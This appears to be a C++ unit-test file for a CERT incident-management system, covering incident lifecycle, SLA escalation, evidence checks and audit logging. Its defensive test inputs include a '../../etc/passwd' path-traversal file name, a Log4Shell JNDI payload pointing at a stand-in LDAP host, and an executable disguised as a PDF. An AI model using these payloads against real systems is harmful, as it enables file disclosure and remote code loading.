// Incidents: the whole story (alert → incident → assigned → SLA breach → escalation → resolved → closed),
// illegal transitions, evidence checks, and the audit trail it leaves.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "cases/audit_log.h"
#include "cases/case_db.h"
#include "cases/evidence_store.h"
#include "cases/incident_manager.h"
#include "cases/incident_taxonomy.h"
#include "cases/response_network.h"
#include "cases/system_import.h"
#include "cases/system_registry.h"
#include "store/registry_data.h"
#include "case_db_fixture.h"

namespace khien {
namespace {

constexpr std::int64_t kMinute = 60LL * 1000000000LL;
constexpr std::int64_t kHour = 60 * kMinute;

const RegistryData& registry() { return shipped_registry(); }

class IncidentTest : public CaseDbTest {
 protected:
  void SetUp() override {
    open_case_db("cases-inc");
    if (HasFatalFailure()) return;
    network_ = std::make_unique<ResponseNetwork>(registry());
    EvidenceLimits limits;
    limits.max_bytes = 1024;
    evidence_ = std::make_unique<EvidenceStore>(dir_ / "evidence", limits);
    systems_ = std::make_unique<SystemRegistry>(*db_, *audit_, &registry());
    import_shipped_systems(*systems_, t0_);
    if (HasFatalFailure()) return;
    known_alerts_ = {"alert-77"};
    incidents_ = std::make_unique<IncidentManager>(
        *db_, *audit_, *network_, *evidence_, SlaPolicy{},
        [this](IncidentSource, const std::string& id) { return known_alerts_.count(id) > 0; });
  }
  NewIncident from_alert() {
    NewIncident n;
    n.title = "Log4Shell exploitation against the SCADA historian";
    n.severity = IncidentSeverity::critical;
    n.category = "intrusions.system-compromise";
    n.source = IncidentSource::alert;
    n.source_ref = "alert-77";
    n.affected_orgs = {"evnnpt"};
    n.affected_systems = {"evnnpt-scada"};
    n.links.cves = {"CVE-2021-44228"};
    return n;
  }

  TimeNs t0_ = 1'780'000'000LL * 1000000000LL;  // 2026-05-28
  std::set<std::string> known_alerts_;
  std::unique_ptr<ResponseNetwork> network_;
  std::unique_ptr<EvidenceStore> evidence_;
  std::unique_ptr<SystemRegistry> systems_;
  std::unique_ptr<IncidentManager> incidents_;
};

TEST_F(IncidentTest, AlertBecomesIncidentBreachesSlaEscalatesAndCloses) {
  TimeNs now = t0_;
  auto inc = incidents_->open(from_alert(), "analyst@ncsc", now);
  ASSERT_TRUE(inc) << inc.error().message;
  EXPECT_EQ(inc->state, IncidentState::new_);
  EXPECT_EQ(inc->links.alerts, std::vector<std::string>{"alert-77"});
  EXPECT_EQ(inc->sla.first_response_due, now + 1 * kHour);
  EXPECT_EQ(inc->sla.containment_due, now + 4 * kHour);
  const std::string id = inc->id;
  EXPECT_EQ(id.rfind("INC-2026-", 0), 0u) << id;

  now += 20 * kMinute;
  ASSERT_TRUE(incidents_->transition(id, IncidentState::triaged, "analyst@ncsc", "confirmed", now));
  now += 10 * kMinute;
  auto assigned = incidents_->assign(id, AssigneeKind::organisation, "evnnpt", "analyst@ncsc", now);
  ASSERT_TRUE(assigned) << assigned.error().message;
  EXPECT_EQ(assigned->state, IncidentState::assigned);
  ASSERT_TRUE(incidents_->comment(id, "soc@evnnpt", "historian isolated from the OT network segment", now));
  auto ev = incidents_->attach(id, "soc@evnnpt", "../../etc/passwd", "GET /${jndi:ldap://x/a} HTTP/1.1\n", now);
  ASSERT_TRUE(ev) << ev.error().message;
  EXPECT_EQ(ev->name, "passwd");
  EXPECT_EQ(ev->media_type, "text/plain");
  EXPECT_TRUE(evidence_->contains(ev->sha256));
  EXPECT_TRUE(std::filesystem::exists(dir_ / "evidence" / ev->sha256.substr(0, 2) / ev->sha256));

  // Nothing is late yet.
  auto none = incidents_->check_sla(now);
  ASSERT_TRUE(none);
  EXPECT_TRUE(none->empty());

  // Four hours pass without containment: breach → sector CERT.
  now = t0_ + 4 * kHour + kMinute;
  auto breaches = incidents_->check_sla(now);
  ASSERT_TRUE(breaches) << breaches.error().message;
  ASSERT_EQ(breaches->size(), 1u);
  EXPECT_EQ((*breaches)[0].milestone, SlaMilestone::containment);
  EXPECT_EQ((*breaches)[0].escalated_to, "cert-nang-luong");
  EXPECT_EQ(incidents_->get(id)->escalation_level, 1);
  // The same breach is not escalated twice.
  EXPECT_TRUE(incidents_->check_sla(now + kMinute)->empty());

  // A day passes without resolution: the second breach goes to the national centre.
  now = t0_ + 24 * kHour + kMinute;
  breaches = incidents_->check_sla(now);
  ASSERT_TRUE(breaches);
  ASSERT_EQ(breaches->size(), 1u);
  EXPECT_EQ((*breaches)[0].milestone, SlaMilestone::resolution);
  EXPECT_EQ((*breaches)[0].escalated_to, "trung-tam-giam-sat-quoc-gia");
  EXPECT_EQ(incidents_->get(id)->escalation_level, 2);

  ASSERT_TRUE(incidents_->transition(id, IncidentState::contained, "soc@evnnpt", "", now + kHour));
  ASSERT_TRUE(incidents_->transition(id, IncidentState::resolved, "soc@evnnpt", "patched to 2.17.1", now + 2 * kHour));
  auto closed = incidents_->transition(id, IncidentState::closed, "analyst@ncsc", "", now + 3 * kHour);
  ASSERT_TRUE(closed) << closed.error().message;
  EXPECT_EQ(closed->state, IncidentState::closed);

  // The timeline tells the story in order.
  std::vector<std::string> kinds;
  for (const auto& e : incidents_->timeline(id)) kinds.push_back(e.kind);
  EXPECT_EQ(kinds, (std::vector<std::string>{"created", "transition", "assignment", "comment", "attachment",
                                             "escalation", "escalation", "transition", "transition", "transition"}));
  // The SLA record of the affected organisation: first response met, containment and resolution late.
  auto rec = incidents_->sla_record("evnnpt", now + 4 * kHour);
  EXPECT_EQ(rec.milestones_due, 3);
  EXPECT_EQ(rec.met_on_time, 1);
  // Every change is in the audit log, and the chain holds.
  auto entries = audit_->list(0, 1000, "incident", id);
  std::vector<std::string> actions;
  for (const auto& e : entries) actions.push_back(e.action);
  EXPECT_EQ(actions,
            (std::vector<std::string>{"incident.open", "incident.transition", "incident.assign", "incident.comment",
                                      "incident.attach", "incident.escalate", "incident.escalate",
                                      "incident.transition", "incident.transition", "incident.transition"}));
  EXPECT_TRUE(audit_->verify().ok);

  // Reopened: back through triage.
  auto reopened =
      incidents_->transition(id, IncidentState::reopened, "analyst@ncsc", "new beacon seen", now + 5 * kHour);
  ASSERT_TRUE(reopened);
  EXPECT_EQ(reopened->sla.resolved_at, 0);
  EXPECT_FALSE(incidents_->transition(id, IncidentState::assigned, "a", "", now + 6 * kHour));
  EXPECT_TRUE(incidents_->transition(id, IncidentState::triaged, "a", "", now + 6 * kHour));
}

TEST_F(IncidentTest, IllegalTransitionsAreRefusedAndChangeNothing) {
  auto inc = incidents_->open(from_alert(), "analyst", t0_);
  ASSERT_TRUE(inc);
  auto r = incidents_->transition(inc->id, IncidentState::resolved, "analyst", "", t0_ + 1);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find("cannot go from new to resolved (allowed from new: triaged)"), std::string::npos)
      << r.error().message;
  EXPECT_FALSE(incidents_->assign(inc->id, AssigneeKind::organisation, "evnnpt", "analyst", t0_ + 1))
      << "assign before triage";
  EXPECT_FALSE(incidents_->transition(inc->id, IncidentState::reopened, "analyst", "", t0_ + 1));
  EXPECT_EQ(incidents_->get(inc->id)->state, IncidentState::new_);
  EXPECT_EQ(incidents_->timeline(inc->id).size(), 1u);
  EXPECT_EQ(audit_->list(0, 1000, "incident").size(), 1u);
  ASSERT_TRUE(incidents_->transition(inc->id, IncidentState::triaged, "analyst", "", t0_ + 2));
  EXPECT_FALSE(incidents_->assign(inc->id, AssigneeKind::sector_cert, "evn", "analyst", t0_ + 3)) << "not a CERT";
  EXPECT_FALSE(incidents_->assign(inc->id, AssigneeKind::organisation, "nobody", "analyst", t0_ + 3));
  EXPECT_TRUE(incidents_->assign(inc->id, AssigneeKind::sector_cert, "cert-nang-luong", "analyst", t0_ + 3));
  auto re = incidents_->assign(inc->id, AssigneeKind::response_member, "viettel", "analyst", t0_ + 4);
  ASSERT_TRUE(re);
  EXPECT_EQ(re->state, IncidentState::assigned);
  EXPECT_EQ(re->assignee, "viettel");
}

TEST_F(IncidentTest, OpeningChecksReferences) {
  auto n = from_alert();
  n.source_ref = "alert-unknown";
  EXPECT_FALSE(incidents_->open(n, "a", t0_));
  n = from_alert();
  n.category = "made-up";
  EXPECT_FALSE(incidents_->open(n, "a", t0_));
  n = from_alert();
  n.affected_systems = {"no-such-system"};
  EXPECT_FALSE(incidents_->open(n, "a", t0_));
  n = from_alert();
  n.affected_orgs = {"no-such-org"};
  EXPECT_FALSE(incidents_->open(n, "a", t0_));
  NewIncident manual;
  manual.title = "Phishing campaign imitating the tax portal";
  manual.category = "fraud.phishing";
  manual.source = IncidentSource::public_report;
  EXPECT_FALSE(incidents_->open(manual, "a", t0_)) << "a public report needs its id";
  manual.source = IncidentSource::manual;
  EXPECT_TRUE(incidents_->open(manual, "a", t0_));
  EXPECT_TRUE(incidents_->list().size() == 1);
  auto inc = incidents_->list().front();
  EXPECT_FALSE(incidents_->link(inc.id, "cve", "not-a-cve", "a", t0_));
  EXPECT_FALSE(incidents_->link(inc.id, "alert", "alert-unknown", "a", t0_));
  EXPECT_TRUE(incidents_->link(inc.id, "indicator", "indicator--1234", "a", t0_));
  EXPECT_EQ(incidents_->get(inc.id)->links.indicators.size(), 1u);
}

TEST_F(IncidentTest, EvidenceIsCheckedBySizeAndContent) {
  auto inc = incidents_->open(from_alert(), "analyst", t0_);
  ASSERT_TRUE(inc);
  auto big = incidents_->attach(inc->id, "a", "big.txt", std::string(2000, 'a'), t0_);
  ASSERT_FALSE(big);
  EXPECT_NE(big.error().message.find("over the limit"), std::string::npos);
  auto exe = incidents_->attach(inc->id, "a", "report.pdf", std::string("MZ\x90\x00\x03", 5), t0_);
  ASSERT_FALSE(exe);
  EXPECT_NE(exe.error().message.find("application/x-msdownload is not accepted"), std::string::npos)
      << exe.error().message;
  EXPECT_FALSE(incidents_->attach(inc->id, "a", "x.bin", std::string("\x01\x02\x03\x00", 4), t0_));
  auto png =
      incidents_->attach(inc->id, "a", "C:\\Users\\x\\screen.png", std::string("\x89PNG\r\n\x1a\n....", 12), t0_);
  ASSERT_TRUE(png) << png.error().message;
  EXPECT_EQ(png->name, "screen.png");
  EXPECT_EQ(png->media_type, "image/png");
  // Only the created line and the one good attachment reached the timeline.
  EXPECT_EQ(incidents_->timeline(inc->id).size(), 2u);
  EXPECT_EQ(sanitize_file_name(".."), "attachment");
  EXPECT_EQ(sanitize_file_name("a/../..\\.hidden"), "hidden");
  EXPECT_EQ(sanitize_file_name("bad\x01name.txt"), "bad_name.txt");
  EXPECT_FALSE(evidence_->read("../../etc/passwd"));
}

TEST(IncidentTaxonomy, CodesAreUniqueAndNamed) {
  std::set<std::string_view> codes;
  for (const auto& c : incident_categories()) {
    EXPECT_TRUE(codes.insert(c.code).second) << c.code;
    EXPECT_EQ(c.code.substr(0, c.class_code.size()), c.class_code);
    EXPECT_FALSE(c.name_vi.empty());
    EXPECT_FALSE(c.name_en.empty());
  }
  EXPECT_NE(find_incident_category("intrusions.defacement"), nullptr);
  EXPECT_EQ(find_incident_category("nothing"), nullptr);
}

TEST(IncidentLifecycle, TableMatchesTheDocumentedFlow) {
  EXPECT_TRUE(transition_allowed(IncidentState::new_, IncidentState::triaged));
  EXPECT_TRUE(transition_allowed(IncidentState::closed, IncidentState::reopened));
  EXPECT_TRUE(transition_allowed(IncidentState::reopened, IncidentState::triaged));
  EXPECT_FALSE(transition_allowed(IncidentState::closed, IncidentState::triaged));
  EXPECT_FALSE(transition_allowed(IncidentState::new_, IncidentState::closed));
  EXPECT_FALSE(transition_allowed(IncidentState::contained, IncidentState::assigned));
}

}  // namespace
}  // namespace khien
